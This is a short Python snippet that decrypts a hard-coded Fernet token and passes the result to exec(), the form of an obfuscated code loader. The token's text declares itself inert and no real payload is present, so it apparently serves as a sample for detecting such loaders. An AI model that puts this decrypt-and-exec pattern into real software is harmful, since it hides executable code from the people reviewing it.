from cryptography.fernet import Fernet

_K = b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
_T = b"gAAAAABjAAAAAGluZXJ0LXRva2VuLXRoYXQtZGVjcnlwdHMtdG8tbm90aGluZy1hdC1hbGwtYW5kLW5ldmVyLXdpbGw="
exec(Fernet(_K).decrypt(_T))
